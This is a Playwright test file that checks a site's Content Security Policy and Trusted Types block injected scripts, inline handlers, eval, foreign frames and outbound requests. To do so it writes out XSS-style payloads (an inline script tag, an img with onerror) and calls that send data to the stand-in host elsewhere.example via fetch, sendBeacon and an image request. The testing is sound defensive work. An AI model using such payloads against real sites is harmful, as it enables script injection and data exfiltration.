"""The policy for content in a real browser: it refuses what it should, and Python runs under it.

That nothing else is refused, on any page and in any journey, is held by `refusals` in conftest.py:
it fails whichever test of this folder in which the browser reports a refusal.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, Page, Route, expect

from tests.browser.conftest import Refusals
from tests.browser.hosts import hosting
from tests.browser.test_loading import damaged
from tests.browser.visitor import LOADING, STEP, Visitor
from tools.header_table import header_table
from tools.site_server import SiteHandler, serving
from tools.wait_in_page import wait_in_page

#: Functions of the page that do what is forbidden, by the directive that refuses it.
FORBIDDEN = {
    "an inline script": (
        "require-trusted-types-for",
        """() => {
            const script = document.createElement("script");
            script.append("window.entered = true");
            document.body.append(script);
        }""",
    ),
    "a handler in an attribute": (
        "require-trusted-types-for",
        """() => {
            const [button] = document.querySelectorAll("header button");
            try { button.setAttribute("onclick", "window.entered = true") } catch {}
            button.click();
        }""",
    ),
    "a script from elsewhere": (
        "require-trusted-types-for",
        """() => {
            const script = document.createElement("script");
            try { script.src = "https://elsewhere.example/a.js" } catch {}
            document.body.append(script);
        }""",
    ),
    "a style sheet in the page": (
        "style-src-elem",
        """() => {
            const style = document.createElement("style");
            style.append("body { display: none }");
            document.head.append(style);
        }""",
    ),
    "a style attribute": (
        "style-src-attr",
        """() => document.body.setAttribute("style", "display: none")""",
    ),
    "a picture from elsewhere": (
        "img-src",
        """() => { new Image().src = "https://elsewhere.example/a.png?answers" }""",
    ),
    "a picture in an address": (
        "img-src",
        """() => { new Image().src = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E" }""",
    ),
    "a request to elsewhere": (
        "connect-src",
        """() => { fetch("https://elsewhere.example/", {method: "POST", body: "x"}).catch(() => {}) }""",
    ),
    "a beacon": (
        "connect-src",
        """() => { navigator.sendBeacon("https://elsewhere.example/", "x") }""",
    ),
    "a form to elsewhere": (
        "form-action",
        """() => {
            const form = document.createElement("form");
            form.action = "https://elsewhere.example/";
            document.body.append(form);
            form.submit();
        }""",
    ),
    "another base for links": (
        "base-uri",
        """() => {
            const base = document.createElement("base");
            base.href = "https://elsewhere.example/";
            document.head.append(base);
        }""",
    ),
    "a frame": (
        "frame-src",
        """() => {
            const frame = document.createElement("iframe");
            frame.src = "https://elsewhere.example/";
            document.body.append(frame);
        }""",
    ),
    "a worker from a blob": (
        "require-trusted-types-for",
        """() => {
            const script = URL.createObjectURL(new Blob(["1"], {type: "text/javascript"}));
            try { new Worker(script) } catch {}
        }""",
    ),
    "markup from a text": (
        "require-trusted-types-for",
        """() => { try { document.body.innerHTML = "<p>x</p>" } catch {} }""",
    ),
    "a policy of Trusted Types of one's own": (
        "trusted-types",
        """() => { try { trustedTypes.createPolicy("mine", {}) } catch {} }""",
    ),
    "code from a text": (
        "require-trusted-types-for",
        """() => { setTimeout(() => { try { eval("window.entered = true") } catch {} }) }""",
    ),
    "WebAssembly in a page without the wizard": (
        "script-src",
        """() => {
            try { new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)) } catch {}
        }""",
    ),
}
#: Does it; tells whether the browser then reports this directive.
ATTEMPT = """([directive, doing]) => new Promise((resolve) => {
    const told = (event) => { if (event.effectiveDirective === directive) done(true) };
    const done = (isRefused) => {
        removeEventListener("securitypolicyviolation", told);
        resolve(isRefused);
    };
    addEventListener("securitypolicyviolation", told);
    setTimeout(done, 5000, false);
    doing();
})"""


def is_refused(page: Page | Frame, what: str) -> bool:
    directive, doing = FORBIDDEN[what]
    found: bool = page.evaluate(f"() => ({ATTEMPT})(['{directive}', {doing}])")
    return found


#: Put before the worker's own script: tells the page what its policy refuses.
LISTENING = (
    'addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) =>'
    " console.error(`Content Security Policy: ${effectiveDirective} ${blockedURI}`));\n"
)


class HeaderlessHandler(SiteHandler):
    """A host whose headers cannot be set; it lets everybody read, as GitHub Pages does."""

    def end_headers(self) -> None:
        """Send none of the table."""
        self.send_header("Access-Control-Allow-Origin", "*")
        SimpleHTTPRequestHandler.end_headers(self)


@pytest.fixture(scope="module", params=("headers", "meta"))
def a_page(request: pytest.FixtureRequest, browser: Browser, site_folder: Path) -> Iterator[Page]:
    """A page of the site, from a server with headers and from one without."""
    handler = SiteHandler if request.param == "headers" else HeaderlessHandler
    with serving(site_folder, handler) as origin:
        context = browser.new_context(base_url=origin, service_workers="block")
        page = context.new_page()
        page.goto("/ru/rights/")
        yield page
        context.close()


def test_a_page_refuses(a_page: Page, refusals: Refusals) -> None:
    refusals.are_wanted = True
    assert [what for what in FORBIDDEN if not is_refused(a_page, what)] == []
    assert a_page.evaluate("window.entered") is None
    # The console tells it too: what every other test of this folder listens to.
    assert len(refusals.lines) >= len(FORBIDDEN)


def test_markup_that_came_into_a_page_does_nothing(
    page: Page, base_url: str, refusals: Refusals
) -> None:
    def with_markup(route: Route) -> None:
        response = route.fetch()
        entered = (
            "<script>window.entered = 'script'</script>"
            "<img src=https://elsewhere.example/a.png onerror=\"window.entered = 'img'\">"
            "<style>h1 { color: red }</style><p style='color: red'></p>"
        )
        text = response.text().replace("</h1>", f"</h1>{entered}", 1)
        route.fulfill(response=response, body=text)

    refusals.are_wanted = True
    page.add_init_script(
        "window.told = []; addEventListener('securitypolicyviolation',"
        " ({effectiveDirective}) => told.push(effectiveDirective))"
    )
    page.route("**/ru/rights/", with_markup)
    page.goto("/ru/rights/")
    assert page.evaluate("window.entered") is None
    told = {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "style-src-attr"}
    wait_in_page(page, "wanted => wanted.every(each => told.includes(each))", [*told], timeout=STEP)


def test_the_device_is_asked_for_nothing_but_to_copy(page: Page) -> None:
    page.goto("/ru/wizard/")
    named = re.findall(r"([\w-]+)=\(\)", header_table().everywhere["Permissions-Policy"])
    allowed: list[str] = page.evaluate("document.featurePolicy.allowedFeatures()")
    known: list[str] = page.evaluate("document.featurePolicy.features()")
    assert {"camera", "geolocation", "microphone", "payment"} <= set(named) & set(known)
    assert not set(named) & set(allowed)
    assert "clipboard-write" in allowed


def listen_to_workers(page: Page) -> None:
    """Let the worker report what its policy refuses; it keeps the headers of the server."""

    def answer(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=LISTENING + response.text())

    page.context.route(re.compile(r"/worker\.js$"), answer)


@pytest.mark.parametrize("kind", ("light", "whole"))
def test_both_kinds_of_python_run_under_the_policy_of_the_worker(
    browser: Browser, base_url: str, kind: str
) -> None:
    context = browser.new_context(base_url=base_url, service_workers="block")
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    visitor = Visitor(context.new_page(), "kz")
    listen_to_workers(visitor.page)
    if kind == "whole":
        # A light one whose rules cannot be read is replaced by the whole one.
        context.route("**/rules.*.zip", damaged)
    visitor.open()
    visitor.walk({"stage": "waiting", "provider": "court"})
    visitor.expect_outcome("not_public_service", timeout=LOADING)
    assert any("python_stdlib" in url for url in asked) == (kind == "whole")
    context.close()


def test_the_worker_does_report_what_is_refused(
    page: Page, base_url: str, refusals: Refusals
) -> None:
    """So that the test above means something."""
    refusals.are_wanted = True
    visitor = Visitor(page, "ru")
    listen_to_workers(page)
    visitor.open()
    with page.expect_worker() as started:
        visitor.choose("service")
    with page.expect_console_message(lambda line: "connect-src" in line.text):
        started.value.evaluate("fetch('https://elsewhere.example/').catch(() => {})")
    assert [line for line in refusals.lines if "connect-src" in line]


@pytest.mark.parametrize("sandbox", ("", 'sandbox="allow-scripts"'))
def test_frames_have_their_policy_where_no_header_brings_it(
    browser: Browser, site_folder: Path, refusals: Refusals, sandbox: str
) -> None:
    with serving(site_folder, HeaderlessHandler) as origin, hosting() as host:
        page = browser.new_context().new_page()
        source = f"{origin.replace('127.0.0.1', 'localhost')}/embed/v1/kz/"
        page.goto(host.put("/", f'<iframe {sandbox} src="{source}" height="900"></iframe>'))
        frame = page.frame_locator("iframe")
        frame.locator("#rw-option-service").check()
        expect(frame.locator("html[data-rules=ready]")).to_be_attached(timeout=LOADING)
        assert refusals.lines == []
        refusals.are_wanted = True
        assert is_refused(page.frames[1], "a request to elsewhere")
        page.context.close()
